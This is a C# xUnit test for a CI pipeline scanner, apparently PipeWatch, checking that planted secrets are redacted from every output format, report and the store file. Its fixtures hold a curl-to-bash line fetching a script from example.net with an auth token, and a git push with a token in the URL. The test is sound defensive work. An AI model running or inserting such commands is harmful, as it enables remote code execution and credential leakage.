using System.Text;
using PipeWatch.Tests.Support;
using Xunit;

namespace PipeWatch.Tests.Cli.Hostile;

/// <summary>
/// Secrets planted in every input kind (a committed file, a commit message, a workflow step, runner telemetry, a job log)
/// leave no 10-character piece in any output format, report file, stderr, or the store file with its WAL.
/// </summary>
public sealed class RedactionSweepTests : IDisposable
{
    private static readonly string[] Secrets = ["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", "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", "AKIAQWERTYUIOPASDFGH"];
    private readonly TestRepository _repo = new();
    private readonly TempFolder _work = new();

    public void Dispose()
    {
        _repo.Dispose();
        _work.Dispose();
    }

    [Fact]
    public async Task No_output_report_message_or_store_page_holds_a_piece_of_a_planted_secret()
    {
        _repo.Write(".github/workflows/ci.yml", "on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n").Commit("ci");
        _repo.Write("deploy.env", $"GH_TOKEN={Secrets[0]}\naws_access_key_id = {Secrets[2]}\n")
            .Write(".github/workflows/ci.yml", $"on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n      - run: curl -sSfL -H 'Authorization: token {Secrets[1]}' https://example.net/i.sh | bash\n")
            .Commit($"deploy with {Secrets[1]}");
        File.WriteAllText(_work.File("telemetry.jsonl"),
            $$$"""{"@timestamp": "2026-11-20T10:17:00Z", "event": {"category": ["process"], "type": ["start"], "id": "t-1"}, "process": {"executable": "/usr/bin/bash", "command_line": "/bin/sh -c curl -H 'Authorization: token {{{Secrets[0]}}}' https://example.net/x.sh | bash", "parent": {"executable": "/home/runner/actions-runner/bin/Runner.Worker"}}, "host": {"os": {"type": "linux"}}, "ci": {"repository": "acme/api", "run_id": "1", "platform": "github"}}"""
            + "\n");
        File.WriteAllText(_work.File("build.log"), $"2026-11-20T10:00:00.0000000Z ##[group]Run deploy\n2026-11-20T10:00:01.0000000Z export AWS_ACCESS_KEY_ID={Secrets[2]}\n2026-11-20T10:00:02.0000000Z git push https://x-access-token:{Secrets[1]}@github.com/acme/api\n");
        var cli = new CliRunner(_work.Path);

        List<CliResult> runs =
        [
            await cli.RunAsync("scan", _repo.Path, "--format", "json", "--output", "scan.jsonl", "--report", "sarif=scan.sarif", "--report", "gitlab-secret-detection=scan.gl.json", "--report", "table=scan.txt", "--store", "store.db"),
            await cli.RunAsync("scan", _repo.Path),
            await cli.RunAsync("ingest", "telemetry.jsonl", "build.log", "--format", "json", "--store", "store.db"),
            await cli.RunAsync("findings", "--store", "store.db"),
            await cli.RunAsync("findings", "--format", "json", "--store", "store.db"),
            await cli.RunAsync("findings", "--format", "sarif", "--store", "store.db"),
            await cli.RunAsync("findings", "--incidents", "--store", "store.db"),
            await cli.RunAsync("findings", "--incidents", "--format", "json", "--store", "store.db"),
        ];

        Assert.Equal(1, runs[0].ExitCode);
        Assert.Contains("ghp_…", runs[4].Output, StringComparison.Ordinal);
        Assert.Contains("code-change.pipeline-tampering", runs[4].Output, StringComparison.Ordinal);
        var texts = runs.Select(r => r.Output + r.Error).ToList();
        var files = Directory.GetFiles(_work.Path).Where(f => !f.EndsWith("telemetry.jsonl", StringComparison.Ordinal) && !f.EndsWith("build.log", StringComparison.Ordinal)).ToList();
        Assert.Contains(files, f => f.EndsWith("store.db", StringComparison.Ordinal));
        foreach (var piece in Secrets.SelectMany(s => Enumerable.Range(0, s.Length - 9).Select(i => s.Substring(i, 10))))
        {
            Assert.All(texts, t => Assert.DoesNotContain(piece, t, StringComparison.Ordinal));
            var bytes = Encoding.UTF8.GetBytes(piece);
            Assert.All(files, f => Assert.True(File.ReadAllBytes(f).AsSpan().IndexOf(bytes) < 0, $"{Path.GetFileName(f)} holds '{piece}'"));
        }
    }
}
